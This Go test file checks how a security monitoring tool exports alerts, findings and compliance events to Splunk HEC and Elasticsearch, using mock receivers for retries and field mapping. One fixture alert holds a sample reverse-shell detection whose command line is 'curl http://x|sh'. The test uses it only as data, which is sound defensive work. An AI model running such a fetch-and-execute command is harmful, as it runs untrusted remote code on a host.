package export

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// hecReceiver checks what Splunk's HTTP Event Collector checks: the path,
// the token, and that the body is a sequence of JSON event envelopes with
// an "event" and a numeric "time".
type hecReceiver struct {
	t      *testing.T
	token  string
	mu     sync.Mutex
	events []map[string]any
	// fail answers the first len(fail) requests with these statuses.
	fail     []int
	requests atomic.Int64
}

func (h *hecReceiver) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	n := int(h.requests.Add(1))
	if r.Method != http.MethodPost || r.URL.Path != "/services/collector/event" {
		w.WriteHeader(http.StatusNotFound)
		w.Write([]byte(`{"text":"The requested URL was not found on this server.","code":404}`))
		return
	}
	if r.Header.Get("Authorization") != "Splunk "+h.token {
		w.WriteHeader(http.StatusForbidden)
		w.Write([]byte(`{"text":"Invalid token","code":4}`))
		return
	}
	if n <= len(h.fail) {
		w.WriteHeader(h.fail[n-1])
		w.Write([]byte(`{"text":"Server is busy","code":9}`))
		return
	}
	dec := json.NewDecoder(r.Body)
	dec.UseNumber()
	var got []map[string]any
	for {
		var ev map[string]any
		if err := dec.Decode(&ev); err == io.EOF {
			break
		} else if err != nil {
			w.WriteHeader(http.StatusBadRequest)
			w.Write([]byte(`{"text":"Invalid data format","code":6}`))
			return
		}
		tm, ok := ev["time"].(json.Number)
		if _, err := tm.Float64(); !ok || err != nil {
			w.WriteHeader(http.StatusBadRequest)
			w.Write([]byte(`{"text":"Invalid data format","code":6}`))
			return
		}
		if _, ok := ev["event"].(map[string]any); !ok {
			w.WriteHeader(http.StatusBadRequest)
			w.Write([]byte(`{"text":"Event field is required","code":12}`))
			return
		}
		got = append(got, ev)
	}
	h.mu.Lock()
	h.events = append(h.events, got...)
	h.mu.Unlock()
	w.Write([]byte(`{"text":"Success","code":0}`))
}

func (h *hecReceiver) received() []map[string]any {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]map[string]any(nil), h.events...)
}

func fastRetry(c SinkConfig) SinkConfig {
	c.BackoffMin, c.BackoffMax = time.Millisecond, 5*time.Millisecond
	return c
}

func runSink(t *testing.T, c SinkConfig) *Manager {
	t.Helper()
	m, err := New(Config{Sinks: []SinkConfig{fastRetry(c)}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		m.Close(ctx)
	})
	return m
}

// 503 twice, then OK: every event is delivered exactly once.
func TestSplunkHECRetriesThenDeliversOnce(t *testing.T) {
	h := &hecReceiver{t: t, token: "tok", fail: []int{503, 503}}
	srv := httptest.NewServer(h)
	defer srv.Close()
	m := runSink(t, SinkConfig{Type: TypeSplunk, URL: srv.URL, Token: "tok", Index: "security"})
	b := testBatch(t)
	m.Publish(b)
	waitFor(t, "delivery", func() bool { return m.Stats()[0].Sent == 5 })
	got := h.received()
	if len(got) != 5 || h.requests.Load() != 3 {
		t.Fatalf("receiver has %d events after %d requests, want 5 after 3", len(got), h.requests.Load())
	}
	s := m.Stats()[0]
	if s.Failed != 2 || s.Dropped != 0 || !strings.Contains(s.LastError, "503") {
		t.Errorf("stats %+v, want 2 failed attempts with a 503", s)
	}
	a := got[0]
	if a["host"] != "node-1" || a["source"] != "vigil" || a["sourcetype"] != "vigil:alert" || a["index"] != "security" {
		t.Errorf("envelope %v", a)
	}
	if tm := a["time"].(json.Number).String(); tm != strconv.FormatInt(t0.Unix(), 10)+".123" {
		t.Errorf("time %s, want epoch seconds with milliseconds", tm)
	}
	ev := a["event"].(map[string]any)
	if ev["kind"] != "alert" || ev["alert"].(map[string]any)["id"] != "01J-alert-1" {
		t.Errorf("event %v", ev)
	}
	if got[2]["sourcetype"] != "vigil:finding" || got[4]["sourcetype"] != "vigil:compliance" {
		t.Errorf("sourcetypes %v %v", got[2]["sourcetype"], got[4]["sourcetype"])
	}
}

// A refused token (403) is not retried forever: the batch is dropped and
// the error kept.
func TestSplunkHECClientErrorDrops(t *testing.T) {
	h := &hecReceiver{t: t, token: "right"}
	srv := httptest.NewServer(h)
	defer srv.Close()
	m := runSink(t, SinkConfig{Type: TypeSplunk, URL: srv.URL, Token: "wrong"})
	m.Publish(testBatch(t))
	waitFor(t, "the drop", func() bool { return m.Stats()[0].Dropped == 5 })
	s := m.Stats()[0]
	if h.requests.Load() != 1 || s.Failed != 1 || !strings.Contains(s.LastError, "Invalid token") {
		t.Errorf("%d requests, stats %+v: want one attempt, the HEC error kept", h.requests.Load(), s)
	}
}

// 429 is retried like a 5xx.
func TestSplunkHEC429Retried(t *testing.T) {
	h := &hecReceiver{t: t, token: "tok", fail: []int{429}}
	srv := httptest.NewServer(h)
	defer srv.Close()
	m := runSink(t, SinkConfig{Type: TypeSplunk, URL: srv.URL, Token: "tok", Format: "ocsf"})
	m.Publish(testBatch(t))
	waitFor(t, "delivery", func() bool { return m.Stats()[0].Sent == 5 })
	if ev := h.received()[0]["event"].(map[string]any); ev["class_uid"] != json.Number("2004") {
		t.Errorf("format=ocsf event: %v", ev)
	}
}

// esReceiver checks what Elasticsearch's _bulk checks: path, content type,
// auth, that the body is NDJSON of action lines each followed by a
// document, and ECS field types. It answers per item; fail429 makes the
// first attempt of the document with that event.id fail with 429.
type esReceiver struct {
	t        *testing.T
	auth     string
	fail429  string
	failed   atomic.Bool
	mu       sync.Mutex
	docs     []map[string]any
	indices  []string
	problems []string
	requests atomic.Int64
}

func (e *esReceiver) problem(s string) {
	e.mu.Lock()
	e.problems = append(e.problems, s)
	e.mu.Unlock()
}

func (e *esReceiver) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	e.requests.Add(1)
	if r.URL.Path != "/_bulk" || r.Method != http.MethodPost {
		e.problem("path " + r.Method + " " + r.URL.Path)
		w.WriteHeader(404)
		return
	}
	if r.Header.Get("Content-Type") != "application/x-ndjson" {
		e.problem("content type " + r.Header.Get("Content-Type"))
		w.WriteHeader(406)
		return
	}
	if r.Header.Get("Authorization") != e.auth {
		w.WriteHeader(401)
		w.Write([]byte(`{"error":{"type":"security_exception"},"status":401}`))
		return
	}
	body, _ := io.ReadAll(r.Body)
	if len(body) == 0 || body[len(body)-1] != '\n' {
		e.problem("bulk body must end with a newline")
		w.WriteHeader(400)
		return
	}
	sc := bufio.NewScanner(bytes.NewReader(body))
	sc.Buffer(nil, 1<<20)
	var items []string
	for sc.Scan() {
		var action map[string]map[string]any
		if err := json.Unmarshal(sc.Bytes(), &action); err != nil || len(action) != 1 || action["create"] == nil {
			e.problem("bad action line " + sc.Text())
			w.WriteHeader(400)
			return
		}
		idx, _ := action["create"]["_index"].(string)
		if !sc.Scan() {
			e.problem("action line without a document")
			w.WriteHeader(400)
			return
		}
		var doc map[string]any
		if err := json.Unmarshal(sc.Bytes(), &doc); err != nil {
			e.problem("bad document " + sc.Text())
			w.WriteHeader(400)
			return
		}
		id, _ := getPath(doc, "event.id").(string)
		if id == e.fail429 && !e.failed.Swap(true) {
			items = append(items, `{"create":{"_index":"`+idx+`","status":429,"error":{"type":"es_rejected_execution_exception","reason":"rejected execution"}}}`)
			continue
		}
		e.mu.Lock()
		e.docs = append(e.docs, doc)
		e.indices = append(e.indices, idx)
		e.mu.Unlock()
		items = append(items, `{"create":{"_index":"`+idx+`","_id":"x","status":201,"result":"created"}}`)
	}
	errs := strings.Contains(strings.Join(items, ""), `"status":429`)
	w.Header().Set("Content-Type", "application/json")
	w.Write([]byte(`{"took":1,"errors":` + strconv.FormatBool(errs) + `,"items":[` + strings.Join(items, ",") + `]}`))
}

func getPath(m map[string]any, path string) any {
	var v any = m
	for _, k := range strings.Split(path, ".") {
		mm, ok := v.(map[string]any)
		if !ok {
			return nil
		}
		// ECS allows dotted keys too; the encoder writes objects.
		v = mm[k]
	}
	return v
}

// One item of a bulk request answered 429: only that item is sent again.
func TestElasticBulkRetriesOnlyFailedItems(t *testing.T) {
	e := &esReceiver{t: t, auth: "ApiKey a2V5", fail429: "scan-1/CVE-2024-1234/openssl@3.0.1"}
	srv := httptest.NewServer(e)
	defer srv.Close()
	m := runSink(t, SinkConfig{Type: TypeElastic, URL: srv.URL, APIKey: "a2V5"})
	m.Publish(testBatch(t))
	waitFor(t, "delivery", func() bool { return m.Stats()[0].Sent == 5 })
	e.mu.Lock()
	defer e.mu.Unlock()
	if len(e.problems) > 0 {
		t.Fatalf("receiver found: %v", e.problems)
	}
	if len(e.docs) != 5 || e.requests.Load() != 2 {
		t.Fatalf("%d documents after %d requests, want 5 after 2 (one retried)", len(e.docs), e.requests.Load())
	}
	if id := getPath(e.docs[4], "event.id"); id != "scan-1/CVE-2024-1234/openssl@3.0.1" {
		t.Errorf("the retried document is %v", id)
	}
	if s := m.Stats()[0]; s.Failed != 1 || s.Dropped != 0 {
		t.Errorf("stats %+v", s)
	}
	if e.indices[0] != "vigil-alerts-2026.11.30" || e.indices[1] != "vigil-responses-2026.11.30" || e.indices[2] != "vigil-findings-2026.11.30" || e.indices[3] != "vigil-compliance-2026.11.30" {
		t.Errorf("indices %v", e.indices)
	}
	alert := e.docs[0]
	// Field → JSON type, as an ECS index template maps them.
	want := map[string]any{
		"@timestamp": "2026-11-30T06:00:00.123456789Z", "event.kind": "alert", "event.action": "net_connect",
		"rule.name": "Reverse shell | outbound", "process.pid": 4242.0, "process.executable": "/bin/sh",
		"process.command_line": "sh -c curl http://x|sh; a=b \\ c", "process.parent.pid": 4200.0,
		"process.parent.executable": "/usr/bin/node", "user.name": "root", "host.hostname": "node-1",
		"container.id": "c0ffee1234567890", "container.name": "web", "container.image.name": "nginx:1.25",
		"orchestrator.namespace": "prod", "source.ip": "172.17.0.2", "source.port": 40000.0,
		"destination.ip": "203.0.113.9", "destination.port": 4444.0, "network.transport": "tcp",
		"threat.framework": "MITRE ATT&CK", "message": "Reverse shell a=b | c\nsecond line (proc=sh)",
	}
	for k, v := range want {
		if got := getPath(alert, k); got != v {
			t.Errorf("alert %s = %#v, want %#v", k, got, v)
		}
	}
	for k, v := range map[string][]any{
		"event.category": {"intrusion_detection", "network"}, "threat.technique.id": {"T1059"},
		"threat.technique.subtechnique.id": {"T1059.004"}, "threat.tactic.id": {"TA0002"}, "threat.tactic.name": {"Execution"},
	} {
		got, _ := getPath(alert, k).([]any)
		if len(got) != len(v) || got[0] != v[0] || got[len(got)-1] != v[len(v)-1] {
			t.Errorf("alert %s = %#v, want %#v", k, getPath(alert, k), v)
		}
	}
	vuln := e.docs[4]
	for k, v := range map[string]any{"vulnerability.id": "CVE-2024-1234", "vulnerability.severity": "Critical",
		"vulnerability.score.base": 9.8, "package.name": "openssl", "package.version": "3.0.1", "event.kind": "state"} {
		if got := getPath(vuln, k); got != v {
			t.Errorf("finding %s = %#v, want %#v", k, got, v)
		}
	}
}

// Basic auth, data streams, and a mapping error (400 on one item) that
// is dropped, not retried.
func TestElasticDataStreamAndRefusedItem(t *testing.T) {
	var bodies []string
	var mu sync.Mutex
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u, p, ok := r.BasicAuth()
		if !ok || u != "elastic" || p != "pw" {
			w.WriteHeader(401)
			return
		}
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		bodies = append(bodies, string(b))
		mu.Unlock()
		w.Write([]byte(`{"errors":true,"items":[{"create":{"status":400,"error":{"type":"mapper_parsing_exception"}}},{"create":{"status":201}}]}`))
	}))
	defer srv.Close()
	m := runSink(t, SinkConfig{Type: TypeElastic, URL: srv.URL, Username: "elastic", Password: "pw", DataStream: true, IndexPrefix: "cwpp"})
	b := testBatch(t)
	b.Scans, b.Compliance = nil, nil
	m.Publish(b)
	waitFor(t, "the result", func() bool { s := m.Stats()[0]; return s.Sent+s.Dropped == 2 })
	s := m.Stats()[0]
	if s.Sent != 1 || s.Dropped != 1 || !strings.Contains(s.LastError, "mapper_parsing_exception") {
		t.Errorf("stats %+v", s)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(bodies) != 1 || !strings.Contains(bodies[0], `{"create":{"_index":"logs-cwpp.alerts-default"}}`) {
		t.Errorf("bodies %q", bodies)
	}
}

func TestParseRetryAfter(t *testing.T) {
	now := time.Date(2026, 11, 30, 6, 0, 0, 0, time.UTC)
	for v, want := range map[string]time.Duration{
		"": 0, "7": 7 * time.Second, "-1": 0, "soon": 0,
		now.Add(90 * time.Second).Format(http.TimeFormat): 90 * time.Second,
		now.Add(-time.Hour).Format(http.TimeFormat):       0,
	} {
		if got := parseRetryAfter(v, now); got != want {
			t.Errorf("parseRetryAfter(%q) = %v, want %v", v, got, want)
		}
	}
	// And the error carries it to the runner.
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Retry-After", "3")
		w.WriteHeader(http.StatusServiceUnavailable)
	}))
	defer srv.Close()
	p, err := newHTTPPoster(SinkConfig{URL: srv.URL, Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	_, err = p.post(context.Background(), srv.URL, "application/json", []byte("{}"), nil)
	var ra interface{ retryAfter() time.Duration }
	if !errors.As(classify(1, err), &ra) || ra.retryAfter() != 3*time.Second {
		t.Errorf("error %v does not carry Retry-After 3s", err)
	}
}
